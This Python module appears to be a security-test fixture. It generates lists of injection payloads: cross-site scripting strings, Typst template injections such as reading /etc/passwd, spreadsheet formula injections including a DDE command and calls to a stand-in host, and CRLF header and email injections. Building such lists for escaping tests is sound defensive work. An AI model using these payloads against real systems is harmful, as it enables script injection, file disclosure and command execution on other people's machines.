"""Texts that attack whoever prints them: our own wording of the well-known ways."""

from itertools import product

CALL = "pwned(1)"
"""What every script of these calls, so that it is found again."""

_TAGS = (
    "img", "svg", "body", "video", "audio", "input", "details", "iframe", "object", "select",
)  # fmt: skip
_HANDLERS = ("onload", "onerror", "onfocus", "ontoggle", "onmouseover")
_LINKS = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "&#106;avascript:", "vbscript:",
    "data:text/html,<script>", "javascript&colon;", " javascript:", "javascript://%0a",
)  # fmt: skip
XSS = (
    *(f"<{tag} src=x {handler}={CALL}>" for tag, handler in product(_TAGS, _HANDLERS)),
    *(f'<a href="{link}{CALL}">x</a>' for link in _LINKS),
    *(f'"><a href="{link}{CALL}' for link in _LINKS),
    f"<script>{CALL}</script>", f"</script><script>{CALL}</script>", f"<SCRIPT>{CALL}//",
    f"<script src=//x.example/{CALL}></script>", f"<scr<script>ipt>{CALL}</script>",
    f"'-{CALL}-'", f'"-{CALL}-"', f"';{CALL}//", f"\\';{CALL}//",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>", f"--><script>{CALL}</script>", f"<!--<script>{CALL}",
    f"]]><script>{CALL}</script>", f"<![CDATA[<script>{CALL}</script>]]>",
    f'" onfocus={CALL} autofocus x="', f"' onfocus={CALL} autofocus x='", f"` onfocus={CALL} ",
    f'x" style="background:url(javascript:{CALL})', f"<style>@import'//x.example/{CALL}'</style>",
    f"<link rel=stylesheet href=//x.example/{CALL}>", f"<base href=//x.example/{CALL}>",
    f'<meta http-equiv=refresh content="0;javascript:{CALL}">',
    f"<form action=javascript:{CALL}><button>", f"<button formaction=javascript:{CALL}>",
    f"<math><mi xlink:href=javascript:{CALL}>", f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x>", f"<template><script>{CALL}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>", f"{{{{{CALL}}}}}",
    f"<xmp><script>{CALL}</script></xmp>", f"\u2028<script>{CALL}</script>",
    f"＜script＞{CALL}＜/script＞", f"%3Cscript%3E{CALL}%3C/script%3E", f"&lt;script&gt;{CALL}",
    f"<img src=x:x onerror\u000c={CALL}>", f"<x hx-get=/ hx-on:load={CALL}>",
    f"<div hx-vals='js:{CALL}' hx-trigger=load>", f"<x data-hx-on--load={CALL}>",
)  # fmt: skip

TYPST = (
    '#panic("pwned")', '#read("/etc/passwd")', '#include "brief.typ"', '#import "record.typ": *',
    "#sys.inputs", "#eval(\"panic()\")", "$ sum_(i=0)^n $", "*strong*", "_emphasis_", "= heading",
    "/ term: list", "- item", "+ item", "`raw`", "```raw```", "<label>", "@reference", "\\ ", "~",
    "#set page(width: 1pt)", "#show: none", "#let x = 1", "#{ while true {} }", "#[content]",
    "#context counter(page)", "//comment", "/*comment*/", "#image(\"x.png\")", "#link(\"x:y\")[z]",
    "#(1 + 1)", "]#panic()[",
)  # fmt: skip
"""Of each, all letters are to be printed."""

FORMULAS = tuple(
    f"{sign}{formula}"
    for sign, formula in product(
        ("=", "+", "-", "@", "\t=", "\r="),
        (
            "1+1",
            'HYPERLINK("//x.example")',
            "cmd|' /C calc'!A0",
            "SUM(A1)",
            'IMPORTXML("//x.example")',
        ),
    )
)

HEADERS = tuple(
    f"x{end}{header}"
    for end, header in product(
        ("\r\n", "\n", "\r", "\r\n\r\n", "\u2028", "%0d%0a"),
        (
            "Set-Cookie: pwned=1", "Bcc: pwned@x.example", "Location: //x.example/pwned",
            "Content-Type: text/html", "Subject: pwned",
        ),
    )
)  # fmt: skip


def packed(texts, most):
    """Return the texts in as few as hold them, with a blank between two; none is cut."""
    found = [""]
    for text in texts:
        if len(found[-1]) + len(text) + 1 > most:
            found.append("")
        found[-1] = f"{found[-1]} {text}".strip(" ")
    return found
